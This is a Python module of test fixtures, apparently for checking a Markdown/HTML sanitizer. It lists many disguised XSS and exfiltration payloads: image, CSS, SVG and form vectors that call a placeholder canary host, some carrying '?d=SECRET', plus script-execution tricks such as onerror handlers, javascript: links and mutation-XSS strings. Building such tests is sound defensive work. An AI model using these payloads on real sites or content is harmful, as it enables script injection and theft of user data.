"""Words that would have a browser run something, or call somewhere: in Markdown, in HTML, in SVG, split and disguised.

A script that runs sets `window.taken`; who is called is `CANARY`, which is nobody.
"""

from __future__ import annotations

CANARY = "https://canary.example"
RUNS = "window.taken=1"
PICTURES = (
    "![x]({0}/1?d=SECRET)",
    "![x][r]\n\n[r]: {0}/2?d=SECRET",
    "![x]( <{0}/3> )",
    '[![x]({0}/4)]({0}/4b "title")',
    "![x](//canary.example/5)",
    "![x](HTTPS://CANARY.example/6)",
    "![x](https&#58;//canary.example/7)",
    "![x](https://canary.example%2f8)",
    "![x](/\\canary.example/9)",
    "![x](https:\n//canary.example/10)",
    "| a |\n|--|\n| ![x]({0}/11) |",
    "- ![x]({0}/12)\n  > ![x]({0}/12b)",
    "[^1]\n\n[^1]: ![x]({0}/13)",
    '<img src="{0}/14">',
    '<img srcset="{0}/15 1x, {0}/15b 2x">',
    '<picture><source srcset="{0}/16"><img></picture>',
    '<video poster="{0}/17" autoplay src="{0}/17b"></video><audio src="{0}/17c" autoplay></audio>',
    '<link rel="stylesheet" href="{0}/18"><link rel="prefetch" href="{0}/18b"><link rel="preconnect" href="{0}">',
    "<style>@import '{0}/19'; * {{ background: url({0}/19b) }} @font-face {{ src: url({0}/19c) }}</style>",
    '<p style="background: url({0}/20); list-style: url({0}/20b)">x</p>',
    '<svg><image href="{0}/21"/><use href="{0}/21b#x"/><feImage href="{0}/21c"/></svg>',
    '<iframe src="{0}/22" srcdoc="<img src={0}/22b>"></iframe><embed src="{0}/22c"><object data="{0}/22d"></object>',
    '<form action="{0}/23"><input type="image" src="{0}/23b"><button formaction="{0}/23c">x</button></form>',
    '<meta http-equiv="refresh" content="0;url={0}/24"><base href="{0}/24b/">',
    '<body background="{0}/25"><table background="{0}/25b"><td background="{0}/25c">x</td></table>',
    "<math><mtext><img src={0}/26></mtext></math>",
    "```html\n<img src={0}/27>\n```\n<img src={0}/27b>",
    "{0}/28 www.canary.example <{0}/28b>",
    "$\\includegraphics{{{0}/29}}$ ![x](data:image/svg+xml,%3Csvg%20onload=parent.taken=1%3E)",
)
SCRIPTS = (
    "<script>{1}</script>",
    "<scr<script>ipt>{1}</scr</script>ipt>",
    "<img src=x onerror={1}>",
    '"><img src=x onerror={1}>',
    "'><svg/onload={1}>",
    "<svg><script>{1}</script><a xlink:href='javascript:{1}'><text>x</text></a></svg>",
    "<svg><animate onbegin={1} attributeName=x></svg>",
    "<details open ontoggle={1}><summary>x</summary></details>",
    "<a href=javascript:{1}>x</a> [x](javascript:{1}) [x](java\tscript:{1}) [x](data:text/html,<script>{1}</script>)",
    "<math><mi//xlink:href='data:x,<script>{1}</script>'>",
    "<noscript><p title='</noscript><img src=x onerror={1}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={1}>",
    "<template><img src=x onerror={1}></template><xmp></xmp><img src=x onerror={1}>",
    "{{{{constructor.constructor('{1}')()}}}} ${{{1}}} <%= {1} %>",
    "`<img src=x onerror={1}>` &lt;img src=x onerror={1}&gt; &#60;script&#62;{1}&#60;/script&#62;",
)
ALL = tuple(each.format(CANARY, RUNS) for each in (*PICTURES, *SCRIPTS))
MARKDOWN = "\n\n".join(ALL)
SHORT = f"\"><img src={CANARY}/name onerror={RUNS}><script>{RUNS}</script>'"
"""For titles, names and what else is one line."""
